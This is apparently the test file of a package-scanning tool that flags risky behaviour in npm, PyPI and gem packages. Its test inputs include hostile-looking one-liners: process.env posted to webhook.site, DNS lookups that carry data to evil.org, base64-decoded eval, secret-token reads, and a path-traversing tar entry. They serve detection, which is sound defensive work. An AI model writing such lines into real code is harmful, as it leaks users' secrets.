import { gzipSync } from 'node:zlib';
import { makeTar } from '@theriac/testing/make-tar';
import { makeFolder, removeFolders, writeInto } from '@theriac/testing/make-target';
import { makeZip } from '@theriac/testing/make-zip';
import fc from 'fast-check';
import { afterAll, describe, expect, test } from 'vitest';
import { Notebook } from './capability.ts';
import { differenceOf, isDangerous } from './difference.ts';
import { noteJavaScript } from './javascript.ts';
import { manifestOf } from './manifest.ts';
import { readArchive, readPackage } from './package-files.ts';
import { type PackageProfile, profileOf } from './profile.ts';
import { notePython } from './python.ts';
import { pythonTokens } from './python-tokens.ts';
import { runFiles } from './run-files.ts';
import { concernsOf } from './verdict.ts';

afterAll(removeFolders);

const seen = (note: (text: string, notes: Notebook) => unknown, text: string): string[] => {
  const notes = new Notebook('a');
  note(text, notes);
  return notes.evidence.map((e) => `${e.capability}=${e.subject}@${e.location.line}`);
};
const files = (texts: Readonly<Record<string, string>>) =>
  Object.entries(texts).map(([path, text]) => ({ path, bytes: Buffer.from(text) }));
const profile = (texts: Readonly<Record<string, string>>): Promise<PackageProfile> =>
  profileOf({ files: files(texts), unknowns: [] });
const high = async (texts: Readonly<Record<string, string>>): Promise<string[]> =>
  concernsOf(await profile(texts))
    .filter((c) => c.severity === 'high')
    .map((c) => c.id);

describe('JavaScript', () => {
  test.each<[string, string[]]>([
    [
      "const cp = require('child_process');\ncp.exec('ls');",
      ['process=child_process@1', 'process=child_process.exec@2'],
    ],
    [
      "import { spawn as s } from 'node:child_process';\ns('x');",
      ['process=child_process@1', 'process=child_process.spawn@2'],
    ],
    [
      "const { execSync: run } = require('child_' + 'process');\nrun('x');",
      [
        'process=child_process@1',
        'obfuscation=the name of a module in pieces@1',
        'process=child_process.execSync@2',
      ],
    ],
    ["const r = require;\nr('net');", ['network=net@2']],
    ['(0, eval)(x);', ['dynamic-code=eval@1']],
    ["eval(Buffer.from('Y29uc29sZQ==', 'base64').toString());", ['decoded-code=eval@1']],
    ['const c = atob(x);\nnew Function(c)();', ['decoded-code=Function@2']],
    ["Function('return this')();", []],
    ["regex.exec(text); db.exec('SELECT 1');", []],
    ['const e = process.env.NODE_ENV;', []],
    ['JSON.stringify(process.env);', ['environment=JSON.stringify@1']],
    ["spawnSync('x', { env: process.env });", []],
    ['send({ data: process.env });', ['environment=process.env as a value@1']],
    ['const t = process.env.NPM_TOKEN;', ['secret=NPM_TOKEN@1']],
    ["fetch('https://api.service.org/x');", ['network=fetch@1', 'network=host api.service.org@1']],
    ["fetch('http://localhost:3000'); fetch('https://example.com');", ['network=fetch@1']],
    [
      "const h = 'https://discord.com/' + 'api/webhooks/' + id;",
      ['endpoint=discord.com/api/webhooks@1', 'network=host discord.com@1'],
    ],
    ["require('dns').lookup(data + '.evil.org', f);", ['dns=lookup@1', 'network=dns.lookup@1']],
    ["require('dns').lookup('evil.org', f);", ['network=dns.lookup@1']],
    ['globalThis.fetch = wrapped;', ['tampering=fetch@1']],
    [
      "const u = Buffer.from('aHR0cHM6Ly9ldmlsLm9yZw==', 'base64').toString();",
      ['network=host evil.org@1', 'obfuscation=an encoded address or name@1'],
    ],
    ["module.constructor._load('child_process');", ['process=child_process@1']],
    [
      "process.getBuiltinModule('child_process').exec('x');",
      ['process=child_process@1', 'process=child_process.exec@1'],
    ],
  ])('%s', (text, expected) => {
    expect(seen(noteJavaScript, text)).toEqual(expected);
  });

  test('what a minifier names alike is not taken for one thing', () => {
    const text =
      "function a(e){return Buffer.from(e,'base64').toString()}function b(e){return e+1}var x=a(y);x=b(1);eval(x);";
    expect(seen(noteJavaScript, text)).toEqual(['dynamic-code=eval@1']);
  });

  test('what is not JavaScript is said so, and hostile nesting ends', () => {
    expect(noteJavaScript('type A = { b: string };;; let x: A', new Notebook('a'))).toBe('none');
    expect(noteJavaScript('['.repeat(200_000), new Notebook('a'))).toBe('too-deep');
    expect(() => noteJavaScript(`x=${"'a'+".repeat(20_000)}'b'`, new Notebook('a'))).not.toThrow();
  });

  test('any text ends', () => {
    const piece = fc.constantFrom(
      'require(',
      "'child_process'",
      ')',
      '.exec(',
      'eval',
      '(',
      'process.env',
      '+',
      '`${',
      '}`',
      ';',
      '[',
      ']',
      '=',
      'a',
      '{',
      '}',
      '=>',
      '\\x41',
    );
    fc.assert(
      fc.property(
        fc.array(piece, { maxLength: 40 }),
        (parts) => void noteJavaScript(parts.join(''), new Notebook('a')),
      ),
    );
  });
});

describe('Python', () => {
  test.each<[string, string[]]>([
    ['import os\nos.system("ls")', ['process=os.system@2']],
    ['from subprocess import Popen as P\nP(["x"])', ['process=subprocess@1', 'process=subprocess.Popen@2']],
    ['__import__("os").system("x")', ['process=os.system@1']],
    ['import base64\nexec(base64.b64decode(b"x"))', ['decoded-code=exec@2']],
    ['from base64 import b64decode as d\ncode = d("x")\nexec(code)', ['decoded-code=exec@3']],
    ['import re\nre.compile("x")', []],
    ['def eval(x):\n    pass', []],
    ['"""Call os.system(x) and https://evil.org."""', []],
    ['# os.system("x")', []],
    [
      'import requests\nrequests.post("https://evil.org/x", data=d)',
      ['network=requests@1', 'network=requests.post@2', 'network=host evil.org@2'],
    ],
    ['import os\nkey = os.environ["AWS_SECRET_ACCESS_KEY"]', ['secret=AWS_SECRET_ACCESS_KEY@2']],
    ['import json, os\njson.dumps(os.environ)', ['environment=json.dumps of os.environ@2']],
    ['import os\ndict(os.environ)', ['environment=dict of os.environ@2']],
    [
      'import socket\nsocket.gethostbyname(d + ".evil.org")',
      ['network=socket@1', 'dns=socket.gethostbyname@2', 'network=socket.gethostbyname@2'],
    ],
    ['open("/tmp/x", "wb")', ['filesystem-write=open@1', 'filesystem-write=a temporary file@1']],
  ])('%s', (text, expected) => {
    expect(seen(notePython, text)).toEqual(expected);
  });

  test('tokens: strings of every kind, lines across brackets', () => {
    expect(pythonTokens('a = (r"\\n",\n """x\ny""")\nb').map((t) => [t.kind, t.value, t.line])).toEqual([
      ['name', 'a', 1],
      ['operator', '=', 1],
      ['operator', '(', 1],
      ['text', '\\n', 1],
      ['operator', ',', 1],
      ['text', 'x\ny', 2],
      ['operator', ')', 3],
      ['newline', '\n', 3],
      ['name', 'b', 4],
    ]);
  });

  test('any text ends', () => {
    const piece = fc.constantFrom(
      'import ',
      'from ',
      'os',
      '.',
      'system',
      '(',
      ')',
      '"',
      "'''",
      '\n',
      '\\',
      ',',
      ' as ',
      'exec',
      '=',
      '[',
      ']',
      '#',
      'é',
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 60 }), (parts) =>
        notePython(parts.join(''), new Notebook('a')),
      ),
    );
  });
});

test('files that run at install, and what they pull in', () => {
  const list = files({
    'package.json': '{"scripts":{"postinstall":"node ./scripts/a && echo x"}}',
    'scripts/a.js': "require('./b'); require('../lib/c.js'); spawn('node', ['tools/d.js']);",
    'scripts/b.js': '',
    'lib/c.js': '',
    'tools/d.js': '',
    'index.js': '',
  });
  expect([...runFiles(manifestOf(list), list).install].sort()).toEqual([
    'lib/c.js',
    'scripts/a.js',
    'scripts/b.js',
    'tools/d.js',
  ]);
});

describe('concerns', () => {
  test('one capability alone is none', async () => {
    expect(
      await high({
        'index.js': "require('child_process').exec('ls'); fetch('https://api.service.org');",
      }),
    ).toEqual([]);
  });

  test('the same in tests and documents is none', async () => {
    const text = "fetch('https://webhook.site/x', { body: JSON.stringify(process.env) });";
    expect(await high({ 'index.js': text })).toEqual(['environment-leak', 'endpoint']);
    expect(await high({ 'test/a.js': text, 'README.md': text })).toEqual([]);
  });

  test('hidden characters, not marks of languages or flags', async () => {
    expect(await high({ 'index.js': `x = '${'\ufe01'.repeat(20)}';` })).toEqual(['hidden-characters']);
    expect(await high({ 'index.js': "x = '👩\u200d⚕\ufe0f 🏴\u{e0067}\u{e0062}\u{e007f}';" })).toEqual([]);
  });

  test('signs must be near where bundles have everything', async () => {
    const far = `fetch(x);${'\n'.repeat(100)}eval(y);`;
    expect(await high({ 'index.js': 'fetch(x);\neval(y);' })).toEqual(['remote-code']);
    expect(await high({ 'index.js': far })).toEqual([]);
  });
});

describe('difference', () => {
  test('nothing new', async () => {
    const one = await profile({
      'package.json': '{"version":"1.0.0"}',
      'index.js': "fetch('https://a.org');",
    });
    expect(differenceOf(one, one)).toEqual({ additions: [], concerns: [] });
    expect(isDangerous(differenceOf(one, one))).toBe(false);
  });

  test('a new install script, a new host, a new dependency', async () => {
    const before = await profile({ 'package.json': '{"name":"a"}', 'index.js': "fetch('https://a.org');" });
    const after = await profile({
      'package.json': '{"name":"a","scripts":{"postinstall":"node x.js"},"dependencies":{"flatmap":"1"}}',
      'index.js': "fetch('https://a.org'); fetch('https://b.org');",
      'x.js': '',
    });
    const difference = differenceOf(before, after);
    expect(difference.additions.map((a) => [a.severity, a.capability, a.subjects])).toEqual([
      ['high', 'install-script', ['postinstall: node x.js']],
      ['low', 'network', ['host b.org']],
      ['low', 'dependency', ['flatmap']],
    ]);
    expect(isDangerous(difference)).toBe(true);
  });

  test('a package that only computed begins to talk', async () => {
    const before = await profile({ 'index.js': 'module.exports = (a) => a;' });
    expect(isDangerous(differenceOf(before, await profile({ 'index.js': "fetch('https://a.org');" })))).toBe(
      true,
    );
    expect(isDangerous(differenceOf(before, await profile({ 'index.js': "x = 'see https://a.org';" })))).toBe(
      false,
    );
  });
});

describe('archives', () => {
  const texts = {
    'package/package.json': '{"name":"a","version":"1.0.0"}',
    'package/index.js': "require('net');",
  };
  const tar = makeTar(Object.entries(texts).map(([name, content]) => ({ name, content })));

  test('tar, gzip, zip, gem and folder are read alike', async () => {
    const folder = makeFolder({
      'package.json': texts['package/package.json'],
      'index.js': texts['package/index.js'],
    });
    writeInto(folder, 'node_modules/b/index.js', "require('child_process')");
    const gem = makeTar([
      { name: 'metadata.gz', content: '' },
      { name: 'data.tar.gz', content: gzipSync(tar) },
    ]);
    writeInto(folder, 'x/a.tgz', gzipSync(tar));
    for (const archive of [tar, gzipSync(tar), gem]) {
      expect((await readArchive(archive, 'a')).files.map((f) => f.path).sort()).toEqual([
        'index.js',
        'package.json',
      ]);
    }
    const zip = await readArchive(makeZip({ 'a/__init__.py': 'import os' }), 'a.whl');
    expect(zip.files.map((f) => f.path)).toEqual(['a/__init__.py']);
    expect((await readPackage(folder)).files.map((f) => f.path)).toEqual([
      'index.js',
      'package.json',
      'x/a.tgz',
    ]);
    expect((await readPackage(`${folder}/x/a.tgz`)).files.map((f) => f.path)).toEqual([
      'index.js',
      'package.json',
    ]);
    await expect(readPackage(`${folder}/none`)).rejects.toMatchObject({ code: 'THERIAC_TARGET_MISSING' });
  });

  test('what cannot be read is a known unknown', async () => {
    expect((await readArchive(Buffer.from('no archive'), 'a.tgz')).unknowns).toHaveLength(1);
    const { files: read, unknowns } = await readArchive(
      makeTar([{ name: '../../etc/x', content: 'x' }]),
      'a.tgz',
    );
    expect(read).toEqual([]);
    expect(unknowns.map((u) => [u.reason, u.losesComponents])).toEqual([['archive', true]]);
  });
});
